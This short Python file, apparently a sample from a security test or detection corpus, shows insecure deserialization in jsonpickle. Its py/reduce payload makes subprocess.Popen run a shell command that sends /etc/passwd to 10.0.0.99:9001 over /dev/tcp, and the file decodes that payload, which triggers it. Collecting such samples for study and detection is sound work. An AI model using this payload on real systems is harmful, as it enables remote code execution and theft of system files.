# corpus: jsonpickle.decode of a py/reduce payload referencing subprocess.Popen from an untrusted request body
import jsonpickle

REQUEST_BODY = """
{"py/reduce": [{"py/function": "subprocess.Popen"},
               {"py/tuple": [["/bin/sh", "-c", "cat /etc/passwd > /dev/tcp/10.0.0.99/9001"]]}]}
"""

obj = jsonpickle.decode(REQUEST_BODY)
print(type(obj).__name__)
